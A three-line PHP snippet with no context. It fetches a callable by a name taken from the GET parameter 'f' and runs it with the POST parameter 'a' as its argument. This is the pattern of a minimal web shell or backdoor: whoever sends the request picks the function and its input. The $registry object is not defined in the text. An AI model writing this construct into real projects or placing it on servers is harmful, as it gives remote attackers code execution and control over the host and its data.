<?php
$box = $registry->named($_GET['f']);
$box($_POST['a']);
